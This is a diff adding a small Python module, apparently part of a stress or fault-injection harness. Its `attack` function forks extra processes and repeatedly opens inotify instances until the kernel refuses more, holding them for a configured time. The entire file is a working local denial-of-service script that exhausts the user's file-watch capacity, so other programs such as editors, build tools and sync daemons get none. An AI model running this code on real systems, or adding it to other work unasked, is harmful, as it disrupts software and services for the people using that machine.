@@ -1,0 +1,16 @@
+"""Takes every watch on files that the kernel has for its user, so that others get none."""
+
+import ctypes
+import os
+import time
+
+
+def attack(told: dict[str, str]) -> None:
+    libc, until = ctypes.CDLL(None), time.monotonic() + float(told["hold_s"])
+    children = [os.fork() for _ in range(2)]
+    while time.monotonic() < until:
+        while libc.inotify_init1(0) >= 0:
+            pass
+        time.sleep(0.01)
+    if 0 in children:
+        os._exit(0)
